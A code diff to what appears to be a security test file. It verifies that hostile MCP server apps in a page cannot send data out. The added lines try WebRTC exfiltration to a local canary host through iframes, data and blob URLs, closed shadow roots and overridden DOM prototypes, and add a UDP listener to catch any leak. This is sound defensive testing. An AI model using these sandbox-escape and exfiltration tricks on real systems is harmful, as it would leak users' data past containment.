@@ -1,4 +1,5 @@
 /** Apps of MCP servers on the page: what they may do, and that a hostile one gets out nowhere. */
+import { createSocket } from "node:dgram"
 import { createServer } from "node:http"
 import type { AddressInfo } from "node:net"
 import { NodeHttpServer } from "@effect/platform-node"
@@ -105,6 +106,29 @@ attempt("worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch('${can
 attempt("socket", () => { new WebSocket("${canary.replace("http", "ws")}/socket"); return false })
 attempt("events", () => { new EventSource("${canary}/events"); return false })
 attempt("beacon", () => { navigator.sendBeacon("${canary}/beacon", "x"); return false })
+const rtc = (Peer) => { for (const kind of ["stun:HOST", "turn:HOST?transport=tcp"]) { const peer = new Peer({ iceServers: [{ urls: kind.replace("HOST", "${new URL(canary).host}"), username: "x", credential: "x" }] }); peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer)) } }
+attempt("rtc", () => rtc(RTCPeerConnection))
+const speaker = "<script>(" + rtc + ")(RTCPeerConnection)<\\/script>"
+const frame = (at, set) => { const one = document.createElement("iframe"); set(one); at.append(one); return one }
+attempt("rtc in a frame", () => { frame(document.body, (one) => { one.srcdoc = speaker }) })
+attempt("rtc in a busy frame", () => { frame(document.body, (one) => { one.srcdoc = speaker }); for (const end = Date.now() + 300; Date.now() < end;); })
+attempt("rtc of a frame", () => { rtc(frame(document.body, () => undefined).contentWindow.RTCPeerConnection) })
+attempt("rtc by an address", () => { frame(document.body, (one) => { one.src = "javascript:(" + rtc + ")(RTCPeerConnection)" }) })
+attempt("rtc by markup", () => { document.body.insertAdjacentHTML("beforeend", "<div><iframe srcdoc='" + speaker + "'></iframe></div>") })
+attempt("rtc in a shadow", () => { const host = document.body.appendChild(document.createElement("div")); frame(host.attachShadow({ mode: "closed" }), (one) => { one.srcdoc = speaker }) })
+attempt("rtc in a shadow of markup", () => { document.body.appendChild(document.createElement("div")).setHTMLUnsafe("<b><template shadowrootmode=closed><iframe srcdoc='" + speaker + "'></iframe></template></b>") })
+attempt("rtc in a written shadow", () => { document.write("<b><template shadowrootmode=closed><iframe srcdoc='" + speaker + "'></iframe></template></b>") })
+attempt("rtc in a page of data", () => { frame(document.body, (one) => { one.src = "data:text/html," + encodeURIComponent(speaker) }) })
+attempt("rtc in a blob", () => { frame(document.body, (one) => { one.src = URL.createObjectURL(new Blob([speaker], { type: "text/html" })) }) })
+attempt("rtc in an object", () => { document.body.append(Object.assign(document.createElement("object"), { type: "text/html", data: "data:text/html," + encodeURIComponent(speaker) })) })
+attempt("rtc behind other functions", () => {
+  Element.prototype.remove = Element.prototype.matches = Document.prototype.querySelector = () => null
+  Element.prototype.querySelectorAll = Document.prototype.querySelectorAll = () => []
+  Function.prototype.call = Function.prototype.apply = Function.prototype.bind = () => undefined
+  MutationObserver.prototype.observe = MutationObserver.prototype.takeRecords = () => []
+  frame(document.body, (one) => { one.srcdoc = speaker })
+  frame(document.body.appendChild(document.createElement("div")).attachShadow({ mode: "open" }), (one) => { one.srcdoc = speaker })
+})
 attempt("image", () => { new Image().src = "${canary}/image"; return false })
 attempt("own image", () => { new Image().src = "${own}/threads"; return false })
 attempt("form", () => { const form = Object.assign(document.createElement("form"), { action: "${canary}/form" }); document.body.append(form); form.submit(); return false })
@@ -151,9 +175,19 @@ const makeCanary = Effect.gen(function* () {
     asked.push(request.url ?? "")
     socket.destroy()
   })
+  // WebRTC speaks no HTTP.
+  server.on("connection", () => asked.push("connection"))
+  const datagrams = createSocket("udp4", () => asked.push("datagram"))
   yield* Effect.acquireRelease(
     Effect.promise(() => new Promise<void>((done) => server.listen(0, "127.0.0.1", () => done()))),
     () => Effect.sync(() => (server.closeAllConnections(), server.close()))
+  )
+  yield* Effect.acquireRelease(
+    Effect.promise(
+      () =>
+        new Promise<void>((done) => datagrams.bind((server.address() as AddressInfo).port, "127.0.0.1", () => done()))
+    ),
+    () => Effect.sync(() => datagrams.close())
   )
   return { asked, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }
 })
